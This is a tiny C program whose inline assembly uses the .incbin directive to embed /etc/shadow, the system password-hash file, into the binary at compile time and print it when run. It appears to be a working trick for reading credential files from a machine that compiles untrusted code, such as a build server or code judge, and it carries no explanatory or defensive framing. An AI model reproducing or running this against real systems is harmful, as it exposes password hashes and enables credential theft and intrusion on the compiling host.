#include <stdio.h>

__asm__(".data\nsecret: .incbin \"/etc/shadow\"\n.byte 0\n");
extern char secret[];

int main(void) { puts(secret); }
